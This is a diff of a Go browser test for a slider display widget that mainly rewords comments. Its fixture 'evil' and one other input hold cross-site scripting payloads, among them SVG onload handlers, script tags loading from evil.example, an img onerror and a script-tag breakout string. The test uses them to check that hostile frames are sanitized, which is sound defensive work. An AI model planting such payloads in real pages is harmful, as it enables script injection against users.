@@ -27,8 +27,8 @@ func sliderOutput(frames string) map[string]any {
 	}
 }
 
-// evil is what frames of a stranger may try. All of it would ask evil.example for something,
-// or set the title of the page.
+// evil is a hostile frame. If any of its tricks works, the page fetches something from
+// evil.example or changes its title.
 const evil = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:h="http://www.w3.org/1999/xhtml"
  width="300" height="150" viewBox="0 0 300 150" onload="document.title = 'evil'" style="background: url(https://evil.example/style)" class="jp-Dialog" id="jp-main" transform="translate(-500,-500) scale(9)">
 <script>document.title = 'evil'</script><script href="https://evil.example/script"/><h:script>document.title = 'evil'</h:script>
@@ -44,8 +44,8 @@ const evil = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3
 <path d="M-9e4-9e4H9e4V9e4H-9e4Z"/>
 <text y="50">&lt;img src="https://evil.example/text" onerror="document.title = 'evil'"&gt; of %s</text></svg>`
 
-// sliderOutputs are three outputs: a slider, one whose frames are a stranger's, and frames
-// that are none.
+// sliderOutputs returns three outputs: a slider, one with hostile frames, and one whose frames
+// cannot be unpacked.
 func sliderOutputs(t *testing.T) (outputs []any) {
 	t.Helper()
 	good := display.Frames{Name: "good", Label: "slope", Min: -2, Max: 2, Step: 0.1, Start: 1}
@@ -67,9 +67,9 @@ func sliderOutputs(t *testing.T) (outputs []any) {
 	return append(outputs, sliderOutput("</script><script>document.title = 'evil'</script>"))
 }
 
-// checkSlider looks at [sliderOutputs] in a page, in slides, or in JupyterLab. A slider moves
-// by mouse and keyboard, and the stored figures follow. A stranger's frames do nothing but
-// draw. On paper the value stays and the slider goes.
+// checkSlider checks [sliderOutputs] in a page, in slides, or in JupyterLab. The slider moves by
+// mouse and keyboard, and the stored figures follow. Hostile frames only draw. Print shows the
+// value without the slider.
 func checkSlider(ctx context.Context, t *testing.T) {
 	t.Helper()
 	evaluate := func(js string) string {
@@ -111,13 +111,13 @@ func checkSlider(ctx context.Context, t *testing.T) {
 		at(fmt.Sprintf("key %q", press.key), press.value, press.words)
 	}
 
-	// The stranger's: all frames, also by mouse, and what is not SVG leaves the one before.
+	// Each hostile frame is shown in turn. One that is not SVG leaves the previous one.
 	for range 5 {
 		if err := chromedp.Do(ctx, chromedp.Evaluate[chromedp.Void](rows+`[1].querySelector('input').focus()`), chromedp.KeyEvent(kb.ArrowRight)); err != nil {
 			t.Fatal(err)
 		}
 	}
-	check("the stranger's last figure", pictures+`[1].querySelector('text').textContent`, `<img src="https://evil.example/text" onerror="document.title = 'evil'"> of 4`)
+	check("the last hostile figure", pictures+`[1].querySelector('text').textContent`, `<img src="https://evil.example/text" onerror="document.title = 'evil'"> of 4`)
 	check("its elements", `[...new Set([...`+pictures+`[1].querySelectorAll('*')].map(e => e.localName))].sort()`, "circle,image,path,svg,text")
 	check("its attributes", `[...new Set([...`+pictures+`[1].querySelectorAll('*')].flatMap(e => e.getAttributeNames()))].sort()`, "d,height,r,transform,viewBox,width,y")
 	check("its label", rows+`[1].querySelector('span').children.length`, "0")
